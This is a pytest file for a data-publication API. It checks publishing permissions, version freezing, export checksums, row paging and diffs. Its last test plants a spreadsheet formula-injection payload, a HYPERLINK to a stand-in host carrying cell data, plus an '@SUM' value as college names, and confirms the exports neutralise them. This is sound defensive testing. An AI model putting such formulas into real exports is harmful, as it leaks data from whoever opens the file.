"""Publications: who may publish, freezing, versions, sha256 of the export, rows, diff."""

import hashlib
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from app.models import AuditEvent, Event
from app.models.enums import Department, OrgType
from tests.factories import (
    HIGHER_MAJOR,
    HIGHER_MAJOR_2,
    SECONDARY_MAJOR,
    assert_problem,
    cohort,
    college_headers,
    current_period,
    department_headers,
    login,
    make_admin,
    org_headers,
    previous_period,
)

P = current_period()
PUBLICATIONS = "/api/v1/publications"


def submit(client, college, headers, rows, period=P):
    url = f"/api/v1/colleges/{college.id}/student-distributions/{period}"
    response = client.put(url, json={"rows": rows}, headers=headers)
    assert response.status_code == 200, response.text


def publish(client, headers, period=P, dataset="student_distribution"):
    return client.post(PUBLICATIONS, json={"dataset": dataset, "period": period}, headers=headers)


def test_publish_freezes_rows_and_versions(client, db):
    college, college_h = college_headers(client, db)
    _, edu = department_headers(client, db, Department.education)
    submit(client, college, college_h, [cohort(P), cohort(P, SECONDARY_MAJOR)])
    first = publish(client, edu)
    assert first.status_code == 201, first.text
    v1 = first.json()
    assert (v1["dataset"], v1["period"], v1["version"], v1["row_count"]) == (
        "student_distribution",
        P,
        1,
        2,
    )
    assert v1["published_by"]["organization_name"].startswith("测试government")
    export = client.get(f"{PUBLICATIONS}/{v1['id']}/export")
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    assert export.content.startswith(b"\xef\xbb\xbf")
    assert hashlib.sha256(export.content).hexdigest() == v1["sha256"]
    assert export.headers["etag"] == f'"{v1["sha256"]}"'

    # The college changes its submission: the publication does not move.
    submit(client, college, college_h, [cohort(P, headcount=7, graduating_headcount=7)])
    again = client.get(f"{PUBLICATIONS}/{v1['id']}/export")
    assert again.content == export.content
    assert client.get(f"{PUBLICATIONS}/{v1['id']}").json() == v1
    published = client.get("/api/v1/student-distributions", params={"period": P}).json()
    assert sorted(r["headcount"] for r in published["items"]) == [40, 40]

    second = publish(client, edu).json()
    assert second["version"] == 2 and second["row_count"] == 1
    assert second["sha256"] != v1["sha256"]
    latest = client.get("/api/v1/student-distributions", params={"period": P}).json()
    assert [r["headcount"] for r in latest["items"]] == [7]
    listed = client.get(PUBLICATIONS, params={"dataset": "student_distribution"}).json()
    assert [p["version"] for p in listed["items"]] == [2, 1]
    with db() as session:
        events = session.scalars(select(Event.type).order_by(Event.id)).all()
        actions = session.scalars(select(AuditEvent.action)).all()
    assert events.count("publication.published") == 2
    assert actions.count("publication.publish") == 2


def test_rows_and_xlsx_export(client, db):
    college, college_h = college_headers(client, db)
    other, other_h = college_headers(client, db)
    _, hr = department_headers(client, db, Department.hr)
    submit(client, other, other_h, [cohort(P, HIGHER_MAJOR_2)])
    submit(client, college, college_h, [cohort(P, SECONDARY_MAJOR), cohort(P)])
    publication = publish(client, hr).json()
    rows = client.get(f"{PUBLICATIONS}/{publication['id']}/rows", params={"limit": 2}).json()
    assert rows["total"] == 3 and [r["row_index"] for r in rows["items"]] == [1, 2]
    # Sorted by college, then major: deterministic.
    keys = [r["key"] for r in rows["items"]]
    assert keys == [f"{college.id}|{HIGHER_MAJOR}|higher|{cohort(P)['enrollment_year']}", keys[1]]
    assert rows["items"][1]["data"]["major_code"] == SECONDARY_MAJOR
    xlsx = client.get(f"{PUBLICATIONS}/{publication['id']}/export", params={"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content), read_only=True).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(publication["columns"]) and len(values) == 4
    assert_problem(client.get(f"{PUBLICATIONS}/{publication['id']}/export?format=pdf"), 422)


def test_diff(client, db):
    college, college_h = college_headers(client, db)
    _, edu = department_headers(client, db, Department.education)
    submit(client, college, college_h, [cohort(P), cohort(P, SECONDARY_MAJOR)])
    old = publish(client, edu).json()
    submit(
        client,
        college,
        college_h,
        [cohort(P, headcount=50), cohort(P, HIGHER_MAJOR_2)],  # changed, added; removed
    )
    new = publish(client, edu).json()
    diff = client.get(f"{PUBLICATIONS}/{new['id']}/diff", params={"against": old["id"]}).json()
    assert (diff["added_count"], diff["removed_count"], diff["changed_count"]) == (1, 1, 1)
    assert diff["added"][0]["data"]["major_code"] == HIGHER_MAJOR_2
    assert diff["removed"][0]["data"]["major_code"] == SECONDARY_MAJOR
    change = diff["changed"][0]
    assert change["fields"] == ["headcount"]
    assert (change["before"]["headcount"], change["after"]["headcount"]) == (40, 50)
    assert diff["key"] == ["college_id", "major_code", "level", "enrollment_year"]
    short = client.get(
        f"{PUBLICATIONS}/{new['id']}/diff", params={"against": old["id"], "limit": 1}
    ).json()
    assert not short["truncated"]
    assert_problem(client.get(f"{PUBLICATIONS}/{new['id']}/diff", params={"against": 999}), 404)
    assert_problem(client.get(f"{PUBLICATIONS}/{new['id']}/diff"), 422)


def test_who_may_publish(client, db):
    _, college_h = college_headers(client, db)
    _, enterprise = org_headers(client, db, OrgType.enterprise)
    _, tech = department_headers(client, db, Department.tech)
    _, industry = department_headers(client, db, Department.industry)
    _, finance = department_headers(client, db, Department.finance)
    assert_problem(publish(client, {}), 401)
    for headers in (college_h, enterprise, tech, industry, finance):
        assert_problem(publish(client, headers), 403)
    # Owner departments may publish their own datasets.
    for headers, dataset, period in (
        (tech, "tech_projects", "2025-03-01"),
        (industry, "enterprise_directory", "2025Q1"),
        (industry, "cooperation_projects", "2025Q2"),
    ):
        response = publish(client, headers, period, dataset)
        assert response.status_code == 201, response.text
        assert response.json()["row_count"] == 0
    assert_problem(publish(client, tech, "2025Q1", "enterprise_directory"), 403)
    _, edu = department_headers(client, db, Department.education)
    assert publish(client, edu, "2025H1", "social_service_projects").status_code == 201
    admin = login(client, make_admin(db))
    assert publish(client, admin).status_code == 201


def test_bad_publication_requests(client, db):
    _, edu = department_headers(client, db, Department.education)
    for body in (
        {"dataset": "student_distribution", "period": "2025Q1"},
        {"dataset": "student_distribution", "period": "2025H3"},
        {"dataset": "enterprise_directory", "period": "2025H1"},
        {"dataset": "tech_projects", "period": "2025-02-30"},
        {"dataset": "nonsense", "period": "2025H1"},
        {"dataset": "student_distribution"},
        {"dataset": "student_distribution", "period": P, "extra": 1},
    ):
        assert_problem(client.post(PUBLICATIONS, json=body, headers=edu), 422)
    future = f"{int(P[:4]) + 1}H2"
    assert_problem(publish(client, edu, future), 422, "period_in_future")
    assert_problem(client.get(f"{PUBLICATIONS}/999"), 404)
    assert_problem(client.get(f"{PUBLICATIONS}/999/rows"), 404)
    assert_problem(client.get(f"{PUBLICATIONS}/999/export"), 404)


def test_an_empty_period_publishes_zero_rows(client, db):
    _, edu = department_headers(client, db, Department.education)
    publication = publish(client, edu, previous_period(P)).json()
    assert publication["row_count"] == 0
    export = client.get(f"{PUBLICATIONS}/{publication['id']}/export").content
    assert export.count(b"\r\n") == 1
    assert hashlib.sha256(export).hexdigest() == publication["sha256"]


@pytest.mark.parametrize(
    ("resource", "dataset", "period"),
    [
        ("tech_project", "tech_projects", "2025-03-01"),
        ("enterprise_directory", "enterprise_directory", "2025Q1"),
        ("cooperation_project", "cooperation_projects", "2025Q2"),
        ("social_service_project", "social_service_projects", "2025H1"),
    ],
)
def test_feed_publication_freezes_published_items(client, db, resource, dataset, period):
    from tests.factories import FEED_PATHS, feed_publisher, make_feed_item

    published, _ = make_feed_item(client, db, resource, publish=True)
    make_feed_item(client, db, resource)  # a draft: not in the dataset
    _, publisher = feed_publisher(client, db, resource)
    response = publish(client, publisher, period, dataset)
    assert response.status_code == 201, response.text
    publication = response.json()
    assert publication["row_count"] == 1
    rows = client.get(f"{PUBLICATIONS}/{publication['id']}/rows").json()["items"]
    assert rows[0]["data"]["id"] == published["id"]
    export = client.get(f"{PUBLICATIONS}/{publication['id']}/export").content
    assert hashlib.sha256(export).hexdigest() == publication["sha256"]
    # Withdrawing the item later does not change what was published.
    path = FEED_PATHS[resource]
    assert client.post(f"{path}/{published['id']}/withdraw", headers=publisher).status_code == 200
    assert client.get(f"{PUBLICATIONS}/{publication['id']}/export").content == export
    again = publish(client, publisher, period, dataset).json()
    assert again["version"] == 2 and again["row_count"] == 0


FORMULA = '=HYPERLINK("http://x/?"&A2,"点击")'


def test_exports_never_run_formulas(client, db):
    """A college named like a formula: the CSV cell starts with `'`, the XLSX cell is a
    string (no `<f>` in the sheet), numbers stay numbers."""
    college, college_h = college_headers(client, db, name=FORMULA)
    other, other_h = college_headers(client, db, name="@SUM(1+1)")
    _, edu = department_headers(client, db, Department.education)
    submit(client, college, college_h, [cohort(P)])
    submit(client, other, other_h, [cohort(P, SECONDARY_MAJOR)])
    publication = publish(client, edu).json()
    export = client.get(f"{PUBLICATIONS}/{publication['id']}/export").content
    assert hashlib.sha256(export).hexdigest() == publication["sha256"]
    text = export.decode("utf-8-sig")
    assert FORMULA not in text.replace('""', '"').replace("'" + FORMULA, "")
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
    assert ",40," in text  # headcounts are plain numbers
    xlsx = client.get(f"{PUBLICATIONS}/{publication['id']}/export", params={"format": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in book.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if c.value in (FORMULA, "@SUM(1+1)")]
    assert len(named) == 2 and all(c.data_type == "s" for c in named)
    assert any(c.value == 40 and c.data_type == "n" for c in cells)
